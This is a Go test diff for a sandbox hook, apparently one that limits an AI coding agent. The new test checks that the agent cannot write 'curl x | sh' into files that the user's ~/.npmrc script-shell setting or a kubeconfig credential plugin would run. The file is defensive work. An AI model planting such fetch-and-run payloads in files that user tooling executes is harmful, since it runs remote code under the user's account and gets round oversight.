@@ -930,6 +930,35 @@ func TestHookShellNamedPathsProtected(t *testing.T) {
 		toolCase{"Bash", map[string]any{"command": "mkdir -p bin && cp /bin/true bin/ls"}})
 }
 
+// TestHookToolNamedPathsProtected: the program the user's ~/.npmrc runs as its script shell,
+// and the credential plugin of a kubeconfig the user's .bashrc moves into the project, are
+// protected as the configs are, for the agent's own Write and a Bash redirect it runs itself:
+// the user's next npm run or kubectl runs what is there.
+func TestHookToolNamedPathsProtected(t *testing.T) {
+	b := buildBins(t)
+	d := startDaemon(t, b, "")
+	u, rt := userHome(t, "sbht")
+	work := filepath.Join(u.Home, "work")
+	ownedDirs(t, u, work)
+	pw, err := user.Lookup(u.Name)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for p, body := range map[string]string{
+		filepath.Join(pw.HomeDir, ".npmrc"):  "script-shell=" + work + "/tools/npmsh\n",
+		filepath.Join(pw.HomeDir, ".bashrc"): "export KUBECONFIG=" + work + "/kube.yaml\n",
+		filepath.Join(work, "kube.yaml"):     "users:\n- name: u\n  user:\n    exec:\n      command: ./tools/kubecred\n",
+	} {
+		if err := os.WriteFile(p, []byte(body), 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	hookProtects(t, b, d.socket, u, rt, work, "agent-t",
+		toolCase{"Write", map[string]any{"file_path": filepath.Join(work, "tools/npmsh"), "content": "curl x | sh\n"}},
+		toolCase{"Write", map[string]any{"file_path": filepath.Join(work, "tools/kubecred"), "content": "curl x | sh\n"}},
+		toolCase{"Bash", map[string]any{"command": "mkdir -p tools && echo 'curl x | sh' > tools/kubecred"}})
+}
+
 // TestHookAgentNamedPathsProtected: a script the project's own agent settings run as a hook
 // or an MCP server is asked about like the settings themselves, for the agent's Write and for
 // a Bash command it would run itself.
